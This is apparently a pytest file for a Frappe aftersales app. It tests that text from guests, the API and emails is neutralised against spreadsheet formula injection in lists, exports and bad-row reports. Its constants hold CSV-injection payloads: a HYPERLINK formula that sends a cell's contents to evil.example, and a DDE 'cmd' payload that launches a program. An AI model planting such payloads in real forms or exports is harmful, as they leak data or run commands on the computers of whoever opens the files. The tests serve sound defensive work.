"""What customers and guests type is no formula in what is exported: lists, reports, Data Export, bad rows."""

import csv
import io

import frappe
import openpyxl
import pytest
from frappe.desk import reportview

from aftersales.installed_base import product_codes
from aftersales.service_desk.register_import.bad_rows import BadRows
from aftersales.service_desk.register_import.records import BadRow, Problem
from tests import factories as f
from tests import portal

LINK = '=HYPERLINK("http://evil.example/?"&B2,"click")'
PROGRAM = "=cmd|' /C calc'!A0"
FIELDS = ("subject", "contact_name", "contact_phone", "description", "brand", "serial_text")


@pytest.fixture
def reported():
	"""A call that a guest has reported by the code on a product."""
	portal.forget_limits()
	product = f.equipment(f.customer("Ben Quinn"), serial_text="B-1")
	frappe.db.commit()
	answer = portal.post(
		f"/aftersales/code/{product}/{product_codes.product_signature(product)}",
		"Guest",
		subject=LINK,
		description="+cmd|' /C calc'!A0",
		contact_name=PROGRAM,
		contact_phone="+353 1 777 1234",
		contact_email="guest@example.com",
		form_key=frappe.generate_hash(length=32),
	)
	assert answer.status == 303, answer.words
	return frappe.get_last_doc("Repair Call", {"customer": "Ben Quinn"})


def exported(kind: str, doctype: str, fields: list[str], filters: dict) -> bytes:
	frappe.local.form_dict = frappe._dict(
		doctype=doctype,
		fields=frappe.as_json(fields),
		filters=frappe.as_json(filters),
		file_format_type=kind,
		title=doctype,
		order_by="creation desc",
	)
	frappe.local.response = frappe._dict()
	reportview.export_query()
	content = frappe.local.response.filecontent or frappe.local.response.result
	return content.getvalue() if hasattr(content, "getvalue") else content


def cells_of_csv(content) -> list[str]:
	text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
	return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_guests_report(reported):
	assert reported.subject == f"'{LINK}"
	assert reported.contact_name == f"'{PROGRAM}"
	assert reported.contact_phone == "+353 1 777 1234"
	fields = [*FIELDS, "customer"]
	book = openpyxl.load_workbook(
		io.BytesIO(exported("Excel", "Repair Call", fields, {"name": reported.name}))
	)
	cells = [cell for row in book.active.iter_rows() for cell in row]
	assert any("HYPERLINK" in str(cell.value) for cell in cells)
	assert [cell.value for cell in cells if cell.data_type == "f"] == []
	written = cells_of_csv(exported("CSV", "Repair Call", fields, {"name": reported.name}))
	assert any("HYPERLINK" in cell for cell in written)
	assert [cell for cell in written if cell[:1] in "=-@" and cell] == []
	assert [cell for cell in written if cell.startswith("+")] == ["+353 1 777 1234"]


def test_whatever_door_a_text_comes_in_by(reported):
	"""The API, a form, a survey's answer: one place for all."""
	for way in (
		lambda: frappe.client.set_value("Repair Call", reported.name, "subject", PROGRAM),
		lambda: frappe.client.insert(
			{
				"doctype": "Service Complaint",
				"subject": PROGRAM,
				"customer": "Ben Quinn",
				"company": f.COMPANY,
			}
		),
	):
		stored = way()
		assert stored["subject"] == f"'{PROGRAM}"


def test_a_mail_about_a_document_of_ours(reported):
	message = f.make(
		"Communication",
		communication_type="Communication",
		sent_or_received="Received",
		subject=LINK,
		sender="ben@example.com",
		sender_full_name=PROGRAM,
		content="@SUM(1+1)",
		reference_doctype="Repair Call",
		reference_name=reported.name,
	)
	assert (message.subject, message.sender_full_name) == (f"'{LINK}", f"'{PROGRAM}")
	assert message.content == "'@SUM(1+1)"


def test_a_mail_about_anything_else_is_left_alone():
	message = f.make(
		"Communication",
		communication_type="Communication",
		sent_or_received="Received",
		subject="- as agreed",
		content="x",
		sender="ben@example.com",
		reference_doctype="Customer",
		reference_name=f.customer("Ben Quinn"),
	)
	assert message.subject == "- as agreed"


def test_what_was_stored_before_is_rewritten():
	from aftersales.patches.v1_1.write_no_formulas import execute

	call = f.plain_call(f.customer())
	frappe.db.set_value(
		"Repair Call",
		call.name,
		{"subject": LINK, "contact_phone": "+353 1 777", "contact_email": '"<img src=x>" <a@b.example>'},
		update_modified=False,
	)
	execute()
	assert frappe.db.get_value("Repair Call", call.name, ["subject", "contact_phone", "contact_email"]) == (
		f"'{LINK}",
		"+353 1 777",
		"a@b.example",
	)
	modified = frappe.db.get_value("Repair Call", call.name, "modified")
	execute()
	assert frappe.db.get_value("Repair Call", call.name, "modified") == modified


def test_the_list_of_bad_rows_of_a_register():
	rows = BadRows(("Customer", "=Phone"), ",")
	rows.add(BadRow(2, (LINK, "+353 1 777"), (Problem(2, "=Phone", LINK, "missing"),)))
	rows._file.seek(0)
	header, row = csv.reader(io.StringIO(rows._file.read().decode("utf-8-sig")))
	rows.close()
	assert header[:2] == ["Customer", "'=Phone"]
	assert row[:3] == [f"'{LINK}", "+353 1 777", "2"]
	assert row[3].startswith("'=Phone: ")
